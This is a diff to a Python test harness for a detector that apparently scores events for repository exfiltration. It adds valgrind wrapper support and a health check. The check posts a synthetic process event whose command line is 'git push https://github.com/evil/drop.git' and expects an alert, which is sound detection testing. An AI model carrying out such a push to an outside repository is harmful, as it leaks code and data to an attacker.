@@ -13,11 +13,16 @@ The server is started with `serve --listen 127.0.0.1:0`; the port comes
 from its {"msg":"listening","port":N} log line on stderr. Every stderr line
 is kept (parsed when it is JSON) in `srv.logs`. `srv.stop()` sends SIGTERM
 and returns the exit status. Environment: REPOEXFIL_BIN (the binary),
-RX_SANITIZE=ON (ASan/UBSan build: every timeout is multiplied by SLOW).
+RX_SANITIZE=ON (ASan/UBSan build: every timeout is multiplied by SLOW),
+REPOEXFIL_WRAPPER (optional command prefixed to the binary, split like a
+shell would, e.g. "valgrind --error-exitcode=99 ..."; unset: none),
+RX_VALGRIND=1 (the binary runs under valgrind: timeouts are multiplied by
+SLOW = 30 and tests shrink their loads; see tests/valgrind.sh).
 """
 import http.client
 import json
 import os
+import shlex
 import signal
 import socket
 import subprocess
@@ -34,7 +39,12 @@ TEST_DATA = os.environ.get("RX_TEST_DATA") or os.path.join(SRC, "tests",
                                                            "data")
 SANITIZE = os.environ.get("RX_SANITIZE", "").upper() in ("ON", "1", "TRUE",
                                                         "YES")
-SLOW = 8 if SANITIZE else 1  # timeout multiplier for sanitizer builds
+VALGRIND = os.environ.get("RX_VALGRIND", "").upper() in ("ON", "1", "TRUE",
+                                                       "YES")
+# A command prefixed to every run of the binary (valgrind, strace...).
+WRAPPER = shlex.split(os.environ.get("REPOEXFIL_WRAPPER", ""))
+# Timeout multiplier for sanitizer builds and valgrind runs.
+SLOW = 30 if VALGRIND else 8 if SANITIZE else 1
 
 
 def t(seconds):
@@ -109,7 +119,7 @@ class Server:
             self.start()
 
     def start(self):
-        argv = [BIN, "serve", "--listen", "127.0.0.1:0"] + self.args
+        argv = WRAPPER + [BIN, "serve", "--listen", "127.0.0.1:0"] + self.args
         self.proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL,
                                      stdout=subprocess.DEVNULL,
                                      stderr=subprocess.PIPE, env=self.env)
@@ -232,6 +242,35 @@ class Tally:
         self.check(rc == 0, "%s: exits 0 on SIGTERM" % label,
                    "exit status %r; stderr tail:\n%s" %
                    (rc, "\n".join(srv.lines[-10:])))
+        rep = srv.sanitizer_report()
+        self.check(rep is None, "%s: no sanitizer report" % label, rep or "")
+
+    def healthy(self, srv, label, port=None):
+        """The server still runs and answers: GET /healthz is 200 and a
+        git push is scored 3 (alert); no sanitizer report so far."""
+        port = port or srv.port
+        try:
+            r = request(port, "GET", "/healthz", timeout=10)
+            ok = r.status == 200 and (r.json() or {}).get("status") == "ok"
+        except (OSError, http.client.HTTPException) as e:
+            r, ok = e, False
+        self.check(ok, "%s: /healthz 200 after" % label, repr(r))
+        ev = {"EventID": 1, "Image": "C:\\Program Files\\Git\\cmd\\git.exe",
+              "CommandLine": "git push https://github.com/evil/drop.git",
+              "Computer": "WS01"}
+        try:
+            r = request(port, "POST", "/events?notify=false",
+                        json.dumps([ev]),
+                        {"Content-Type": "application/json"}, timeout=10)
+            j = r.json() or {}
+            res = (j.get("results") or [{}])[0]
+            ok = (r.status == 200 and res.get("score") == 3 and
+                  res.get("alert") is True)
+        except (OSError, http.client.HTTPException) as e:
+            r, ok = e, False
+        self.check(ok, "%s: a normal POST is still scored" % label, repr(r))
+        self.check(srv.proc.poll() is None, "%s: process still runs" % label,
+                   "exit %r" % srv.proc.poll())
         rep = srv.sanitizer_report()
         self.check(rep is None, "%s: no sanitizer report" % label, rep or "")
 
